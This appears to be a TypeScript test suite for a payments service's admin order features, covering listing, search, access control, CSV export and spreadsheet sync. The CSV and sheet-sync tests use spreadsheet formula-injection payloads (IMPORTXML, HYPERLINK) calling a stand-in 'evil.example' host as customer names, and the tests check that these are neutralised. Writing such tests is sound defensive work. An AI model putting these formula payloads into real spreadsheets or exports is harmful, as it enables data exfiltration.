import { testUser, tokenOf } from '@satrangi/chassis/testing';
import { ApiError, kolkataDay } from '@satrangi/contracts';
import { describe, expect, it } from 'vitest';
import { bootPayments, media, type PaymentsFixture } from './boot-payments.ts';
import { admin, buy, start } from './orders-fixture.ts';

const csvOf = (fixture: PaymentsFixture, query = '', user = admin) =>
  fetch(`${fixture.service.url}/admin/orders.csv${query}`, {
    headers: { authorization: `Bearer ${tokenOf(user)}` },
  });
const statusOf = (promise: Promise<unknown>) =>
  promise.then(
    () => 200,
    (error: unknown) => {
      if (error instanceof ApiError) return error.status;
      throw error;
    },
  );
const give = (fixture: PaymentsFixture) =>
  fixture.as('visitor').createPayment({
    body: { name: 'Meera', email: 'meera@example.org', amount: 20_000, isContribution: true },
  });

describe('orders for admins', () => {
  it('have id, day, user, items, total in rupees, status and provider (PAY-19, PAY-40, PAY-41)', async () => {
    await using fixture = await bootPayments();
    const rupees = await buy(fixture, 'cashfree', { name: 'Asha', email: 'asha@example.org' });
    fixture.service.clock.advance(1_000);
    const dollars = await start(fixture, 'stripe');
    await give(fixture);

    const [second, first, ...more] = await fixture.as(admin).listOrders();

    expect(more).toEqual([]);
    expect(first).toMatchObject({
      _id: rupees.orderId,
      createdAt: expect.any(String),
      user: { _id: rupees.user.userId, name: 'Asha', email: 'asha@example.org' },
      items: [{ media: { _id: 'm1', title: 'Salt on the Balcony' }, mediaType: 'ebook', format: 'text' }],
      total: 499,
      paymentStatus: 'paid',
      paymentProvider: 'cashfree',
    });
    expect(second).toMatchObject({
      _id: dollars.orderId,
      total: 527.12,
      amount: { minor: 599, currency: 'USD' },
      paymentStatus: 'pending',
      paymentProvider: 'stripe',
    });
  });

  it('and contributions are listed up to 1,000 without a limit, newest first, and up to the limit with one', async () => {
    await using fixture = await bootPayments();
    await start(fixture, 'cashfree');
    await give(fixture);
    for (const template of await fixture.orders.find().toArray()) {
      const many = Array.from({ length: 1_100 }, (_, nth) => ({
        ...template,
        _id: `${template._id}-${nth}`,
        number: `${template.number}${nth}`,
        idempotencyKey: `copy-${nth}`,
        basket: `${template._id}-${nth}`,
        reference: `${template._id}-${nth}`,
        createdAt: new Date(1_700_000_000_000 + nth * 1_000),
      }));
      await fixture.orders.insertMany(many);
      await fixture.orders.deleteOne({ _id: template._id });
    }
    const api = fixture.as(admin);

    for (const list of [api.listOrders, api.listContributions]) {
      const [all, few] = [await list(), await list({ query: { limit: 3 } })];
      const days = all.map(({ createdAt }) => createdAt);

      expect(all).toHaveLength(1_000);
      expect(days).toEqual([...days].sort().reverse());
      expect(few.map(({ _id }) => _id)).toEqual(all.slice(0, 3).map(({ _id }) => _id));
      for (const limit of [0, 1_001, 1.5]) expect(await statusOf(list({ query: { limit } }))).toBe(400);
    }
  });

  it('keep the total in rupees of the day of the order (PAY-41)', async () => {
    await using fixture = await bootPayments();
    const { orderId } = await buy(fixture, 'stripe');
    const stored = await fixture.orders.findOne({ _id: orderId });

    expect(stored).toMatchObject({ totalPaise: 599 * 88 });
  });

  it('are found by state, purpose, provider, day and exact text, page by page', async () => {
    await using fixture = await bootPayments();
    const paid = await buy(fixture, 'cashfree', { email: 'asha@example.org' });
    await start(fixture, 'stripe');
    await give(fixture);
    const api = fixture.as(admin);
    const { number } = await paid.order();
    const today = kolkataDay(fixture.service.clock.now());
    const totals = async (query: object) => (await api.searchOrders({ query })).total;

    expect(await totals({})).toBe(3);
    expect(await totals({ status: 'paid' })).toBe(1);
    expect(await totals({ purpose: 'contribution' })).toBe(1);
    expect(await totals({ purpose: 'purchase' })).toBe(2);
    expect(await totals({ provider: 'stripe' })).toBe(1);
    for (const text of [paid.orderId, number.toLowerCase(), paid.user.userId, 'asha@example.org'])
      expect(await totals({ text })).toBe(1);
    expect(await totals({ text: 'asha' })).toBe(0);
    expect(await totals({ from: today, to: today })).toBe(3);
    expect(await totals({ to: '2020-01-01' })).toBe(0);
    expect(await api.searchOrders({ query: { page: 2, pageSize: 2 } })).toMatchObject({
      orders: [{ _id: paid.orderId }],
      total: 3,
      page: 2,
      pages: 2,
    });
  });

  it('of one millisecond have one order on all pages, whatever the order of their storage', async () => {
    await using fixture = await bootPayments();
    const { orderId } = await start(fixture, 'cashfree');
    const stored = await fixture.orders.findOneAndDelete({ _id: orderId });
    const ids = ['order-2', 'order-4', 'order-1', 'order-3'];
    await fixture.orders.insertMany(
      ids.map((id) => ({
        ...stored,
        ...{ _id: id, number: id, reference: id, idempotencyKey: id, basket: id },
        state: 'paid',
        receipt: 'none',
      })),
    );
    const page = async (number: number) =>
      (await fixture.as(admin).searchOrders({ query: { page: number, pageSize: 2 } })).orders;

    const found = [...(await page(1)), ...(await page(2))];

    expect(found.map(({ _id }) => _id)).toEqual(ids.toSorted().reverse());
  });

  it('are for admins only', async () => {
    await using fixture = await bootPayments();
    const { orderId } = await start(fixture, 'cashfree');
    const doors = (user: ReturnType<typeof testUser> | 'visitor') => {
      const api = fixture.as(user);
      const params = { orderId: orderId };
      return Promise.all(
        [
          api.listOrders(),
          api.searchOrders(),
          api.syncOrders(),
          api.listReconciliations(),
          api.runReconciliation({ body: { day: '2026-01-01' } }),
          api.resendOrder({ params, body: { what: 'access' } }),
          api.refundOrder({ params, body: { reason: 'x' } }),
          api.listContributions(),
        ].map(statusOf),
      );
    };

    expect(new Set(await doors('visitor'))).toEqual(new Set([401]));
    expect(new Set(await doors(testUser()))).toEqual(new Set([403]));
    expect((await csvOf(fixture, '', testUser())).status).toBe(403);
  });
});

describe('orders as CSV', () => {
  it('are complete, in UTF-8 with BOM, and without formulas (PAY-45, S36)', async () => {
    await using fixture = await bootPayments();
    await fixture.service.deliver(media({ version: 2, title: 'सतरंगी, "the" book' }));
    await buy(fixture, 'cashfree', { name: '=IMPORTXML("https://evil.example")', email: 'asha@example.org' });
    await give(fixture);

    const response = await csvOf(fixture);
    const bytes = Buffer.from(await response.arrayBuffer());
    const lines = bytes.toString('utf8').slice(1).trimEnd().split('\r\n');

    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="orders.csv"');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(lines).toHaveLength(3);
    expect(lines[0]).toMatch(/^Created,Order ID,Number,/);
    expect(lines[2]).toContain(`"'=IMPORTXML(""https://evil.example"")"`);
    expect(lines[2]).toContain('"सतरंगी, ""the"" book (ebook, text)"');
    expect(lines[2]).toContain(',499,499,INR,paid,cashfree,');
  });
});

describe('chosen orders as CSV', () => {
  it('are the named ones, and the log has who took them (BEY-07)', async () => {
    await using fixture = await bootPayments();
    const { orderId } = await give(fixture);
    await buy(fixture, 'cashfree');

    const text = await (await csvOf(fixture, `?ids=${orderId},unknown`)).text();
    const acts = (await fixture.service.auditEvents()).map(({ data }) => data);

    const all = await (await csvOf(fixture)).text();
    expect([text, all].map((file) => file.trimEnd().split('\r\n').length)).toEqual([2, 3]);
    expect(text).toContain(orderId);
    expect(acts).toMatchObject([{ call: 'payments.downloadOrders' }]);
    expect((await csvOf(fixture, `?ids=${orderId},%20`)).status).toBe(400);
  });
});

describe('orders in the spreadsheet', () => {
  it('give Sync failed without a service account (PAY-20, PAY-45)', async () => {
    await using fixture = await bootPayments();

    await expect(fixture.as(admin).syncOrders()).rejects.toMatchObject({
      status: 503,
      message: 'Sync failed',
    });
  });

  it('are written completely, without formulas, and idempotently (PAY-20, S36)', async () => {
    const google = { ORDERS_SPREADSHEET_ID: 'books', GOOGLE_BASE_URL: 'http://127.0.0.1:1' };
    await using away = await bootPayments(google);
    await expect(away.as(admin).syncOrders()).rejects.toMatchObject({ status: 503, message: 'Sync failed' });

    await using fixture = await bootPayments({ ORDERS_SPREADSHEET_ID: 'books', GOOGLE_BASE_URL: 'sandbox' });
    await buy(fixture, 'cashfree', { name: '=HYPERLINK("https://evil.example")' });
    await give(fixture);
    const first = await fixture.as(admin).syncOrders();
    const again = await fixture.as(admin).syncOrders();

    expect([first, again]).toEqual([1, 2].map(() => ({ ok: true, count: 2 })));
    const [sheet, ...more] = await fixture.sheets();
    expect(more).toEqual([]);
    expect(sheet).toMatchObject({ spreadsheetId: 'books', sheet: 'Orders' });
    expect(sheet?.rows).toHaveLength(3);
    expect(sheet?.rows[0]?.slice(0, 3)).toEqual(['Created', 'Order ID', 'Number']);
    expect(sheet?.rows[2]).toContain(`'=HYPERLINK("https://evil.example")`);
  });
});

describe('resending an order', () => {
  it('republishes a paid order, or mails its receipt again', async () => {
    await using fixture = await bootPayments();
    const { orderId } = await buy(fixture, 'cashfree', { email: 'asha@example.org' });
    await fixture.service.runWork();
    const params = { orderId: orderId };
    fixture.service.clock.advance(1_000);

    await fixture.as(admin).resendOrder({ params, body: { what: 'access' } });
    const answer = await fixture.as(admin).resendOrder({ params, body: { what: 'receipt' } });
    await fixture.service.runWork();

    expect(answer.receipt).toBe('waiting');
    expect(await fixture.announced('payments.payment-succeeded.v1')).toHaveLength(2);
    const mails = await fixture.mails();
    expect(mails).toHaveLength(2);
    expect(await fixture.orders.findOne({ _id: orderId })).toMatchObject({ receipt: 'sent' });
  });

  it('of an order that is not paid is refused', async () => {
    await using fixture = await bootPayments();
    const { orderId } = await start(fixture, 'cashfree');
    const params = { orderId: orderId };

    await expect(fixture.as(admin).resendOrder({ params, body: { what: 'access' } })).rejects.toMatchObject({
      code: 'payment-not-complete',
    });
  });
});
